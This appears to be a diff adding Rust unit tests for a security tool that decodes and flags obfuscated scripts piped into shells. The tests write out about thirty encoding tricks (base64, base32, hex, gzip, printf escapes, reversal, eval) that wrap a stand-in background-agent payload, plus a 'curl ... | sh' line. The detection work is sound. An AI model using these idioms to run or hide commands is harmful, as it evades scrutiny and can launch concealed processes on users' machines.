@@ -1,0 +1,219 @@
+use std::io::Write;
+
+use base64::Engine;
+use base64::engine::general_purpose::STANDARD;
+
+use super::*;
+use crate::shell;
+
+fn shells() -> Vec<String> {
+    ["sh", "bash", "dash", "zsh"].map(String::from).to_vec()
+}
+
+fn scripts(text: &str) -> Vec<(String, String, bool)> {
+    let mut budget = SCRIPT_BUDGET;
+    piped_scripts(&shell::parse(text), &shells(), &mut budget)
+        .into_iter()
+        .map(|s| (s.text.trim_end().to_string(), s.runner, s.decoded))
+        .collect()
+}
+
+fn b64(s: &str) -> String {
+    STANDARD.encode(s)
+}
+
+fn hex(s: &str) -> String {
+    s.bytes().map(|b| format!("{b:02x}")).collect()
+}
+
+fn gzip_b64(s: &str) -> String {
+    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+    gz.write_all(s.as_bytes()).unwrap();
+    STANDARD.encode(gz.finish().unwrap())
+}
+
+const PAYLOAD: &str = "nohup /tmp/.x/agent >/dev/null 2>&1 &";
+
+#[test]
+fn every_way_of_piping_a_literal_to_a_shell_gives_the_same_script() {
+    let p = PAYLOAD;
+    let e = b64(p);
+    let escaped: String = p.bytes().map(|b| format!("\\x{b:02x}")).collect();
+    let octal: String = p.bytes().map(|b| format!("\\0{b:o}")).collect();
+    let reversed: String = p.chars().rev().collect();
+    let b32 = data_encoding::BASE32.encode(p.as_bytes());
+    let cases = [
+        (format!("echo {e} | base64 -d | sh"), "sh", true),
+        (format!("echo '{e}'|base64 --decode|bash"), "bash", true),
+        (
+            format!("echo -n {e} | base64 -D | /bin/zsh -s"),
+            "zsh",
+            true,
+        ),
+        (format!("printf %s {e} | base64 -di | bash -"), "bash", true),
+        (format!("base64 -d <<< {e} | sh"), "sh", true),
+        (format!("base64 -d <<<\"{e}\" | bash -x"), "bash", true),
+        (format!("echo {b32} | base32 -d | sh"), "sh", true),
+        (format!("echo {} | xxd -r -p | sh", hex(p)), "sh", true),
+        (format!("echo {e} | basenc --base64 -d | sh"), "sh", true),
+        (format!("echo {e} | openssl base64 -d | sh"), "sh", true),
+        (
+            format!("echo {e} | openssl enc -d -base64 | sh"),
+            "sh",
+            true,
+        ),
+        (
+            format!("echo {} | base64 -d | gunzip | sh", gzip_b64(p)),
+            "sh",
+            true,
+        ),
+        (
+            format!("echo {} | base64 -d | gzip -dc | cat | sh", gzip_b64(p)),
+            "sh",
+            true,
+        ),
+        (
+            format!("echo {} | base64 -d | base64 -d | sh", b64(&e)),
+            "sh",
+            true,
+        ),
+        (format!("printf '{escaped}' | sh"), "sh", true),
+        (format!("printf '%b' '{octal}' | sh"), "sh", true),
+        (format!("echo -e '{escaped}' | bash"), "bash", true),
+        (format!("echo '{reversed}' | rev | bash"), "bash", true),
+        (
+            format!("sh -c \"x\"; echo {e} | base64 -d | sh"),
+            "sh",
+            true,
+        ),
+        (format!("eval \"$(echo {e} | base64 -d)\""), "eval", true),
+        (format!("eval `echo {e} | base64 -d`"), "eval", true),
+        (format!("$(echo {e} | base64 -d)"), "sh", true),
+        (format!("bash <<< \"$(base64 -d <<< {e})\""), "bash", true),
+        (format!("bash <(echo {e} | base64 -d)"), "bash", true),
+        (format!("source <(echo {e} | base64 -d)"), "source", true),
+        (format!(". <(echo {e} | base64 -d)"), ".", true),
+        (format!("echo '{p}' | sh"), "sh", false),
+        (format!("bash <<< '{p}'"), "bash", false),
+    ];
+    for (text, runner, decoded) in cases {
+        assert_eq!(
+            scripts(&text),
+            vec![(p.to_string(), runner.to_string(), decoded)],
+            "{text}"
+        );
+    }
+}
+
+#[test]
+fn decoded_text_that_no_shell_runs_is_not_a_script() {
+    let e = b64(PAYLOAD);
+    for text in [
+        format!("echo {e} | base64 -d"),
+        format!("echo {e} | base64 -d > /tmp/out.sh"),
+        format!("echo {e} | base64 -d | tee /tmp/out.sh"),
+        format!("echo {e} | base64 -d | sh /tmp/script.sh"),
+        format!("echo {e} | base64 -d | sh -c 'cat > /tmp/x'"),
+        format!("echo {e} | base64"),
+        format!("echo {e} | grep nohup | sh"),
+        format!("x=\"$(echo {e} | base64 -d)\""),
+        format!("echo \"$(echo {e} | base64 -d)\""),
+        format!("sh -c \"$(echo {e} | base64 -d)\""),
+        "cat /tmp/payload.b64 | base64 -d | sh".to_string(),
+        "curl -s http://x/y | sh".to_string(),
+        "base64 -d <<< \"$B64\" | sh".to_string(),
+        "echo | sh".to_string(),
+    ] {
+        assert_eq!(scripts(&text), Vec::new(), "{text}");
+    }
+}
+
+#[test]
+fn garbage_and_binary_literals_are_not_scripts() {
+    let elf = STANDARD.encode(b"\x7fELF\x02\x01\x01\x00\x00\x00");
+    let latin1 = STANDARD.encode(b"\xff\xfe\xfd nohup");
+    for text in [
+        format!("echo {elf} | base64 -d | sh"),
+        format!("echo {latin1} | base64 -d | sh"),
+        "echo '!!not base64!!' | base64 -d | sh".to_string(),
+        "echo zz | xxd -r -p | sh".to_string(),
+        "echo H4sIAAAA | base64 -d | gunzip | sh".to_string(),
+    ] {
+        assert_eq!(scripts(&text), Vec::new(), "{text}");
+    }
+}
+
+#[test]
+fn a_gzip_bomb_stops_at_the_budget() {
+    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
+    gz.write_all(&vec![b'#'; 4 << 20]).unwrap();
+    let bomb = STANDARD.encode(gz.finish().unwrap());
+    let text = format!("echo {bomb} | base64 -d | gunzip | sh");
+    let mut budget = SCRIPT_BUDGET;
+    assert!(piped_scripts(&shell::parse(&text), &shells(), &mut budget).is_empty());
+    // Within the budget the same pipeline is followed.
+    let small = gzip_b64(PAYLOAD);
+    let mut budget = SCRIPT_BUDGET;
+    let found = piped_scripts(
+        &shell::parse(&format!("echo {small} | base64 -d | gunzip | sh")),
+        &shells(),
+        &mut budget,
+    );
+    assert_eq!(found.len(), 1);
+    assert!(budget < SCRIPT_BUDGET);
+}
+
+#[test]
+fn many_pipelines_stop_at_the_script_limit() {
+    let one = format!("echo {} | base64 -d | sh; ", b64("nohup /tmp/a &"));
+    let text = one.repeat(100);
+    assert_eq!(scripts(&text).len(), MAX_SCRIPTS);
+}
+
+#[test]
+fn escapes_are_read_as_printf_reads_them() {
+    assert_eq!(unescape(r"\x6e\x6fhup"), b"nohup");
+    assert_eq!(unescape(r"\0156\157hup"), b"nohup");
+    assert_eq!(unescape(r"a\tb\\c\n"), b"a\tb\\c\n");
+    assert_eq!(unescape(r"stop\cnot"), b"stop");
+    assert_eq!(unescape(r"\x"), b"\\x");
+    assert_eq!(unescape(r"\q"), b"\\q");
+    assert_eq!(unescape("trailing\\"), b"trailing\\");
+}
+
+#[test]
+fn rev_reverses_each_line() {
+    assert_eq!(rev("cba\nfed".as_bytes()).unwrap(), b"abc\ndef");
+    assert_eq!(rev("é1\n".as_bytes()).unwrap(), "1é\n".as_bytes());
+}
+
+/// Through the command model: what a piped script runs is listed behind the shell
+/// that reads it, flagged piped (and decoded when it was); text that is only
+/// decoded and stored lists no command of it.
+#[test]
+fn the_command_model_lists_what_piped_scripts_run() {
+    let rules: crate::command::CommandRules =
+        crate::rules::Rules::embedded().section("commands").unwrap();
+    let e = b64(PAYLOAD);
+    let argv: Vec<String> = ["sh", "-c", &format!("echo {e} | base64 -d | bash")]
+        .map(String::from)
+        .to_vec();
+    let found = crate::command::from_argv(&argv, &rules);
+    let nohup = found
+        .iter()
+        .find(|i| i.program() == "nohup")
+        .expect("nohup listed");
+    assert_eq!(nohup.words, ["nohup", "/tmp/.x/agent"]);
+    assert!(nohup.piped && nohup.decoded && nohup.background);
+    assert_eq!(nohup.via, ["sh", "bash"]);
+    let plain = crate::command::from_shell_text(&format!("echo '{PAYLOAD}' | sh"), &rules);
+    let nohup = plain
+        .iter()
+        .find(|i| i.program() == "nohup")
+        .expect("nohup listed");
+    assert!(nohup.piped && !nohup.decoded);
+    let stored = crate::command::from_shell_text(&format!("echo {e} | base64 -d > /tmp/n"), &rules);
+    assert!(stored.iter().all(|i| i.program() != "nohup"), "{stored:?}");
+    let direct = crate::command::from_shell_text("nohup /tmp/a &", &rules);
+    assert!(!direct[0].piped && !direct[0].decoded);
+}
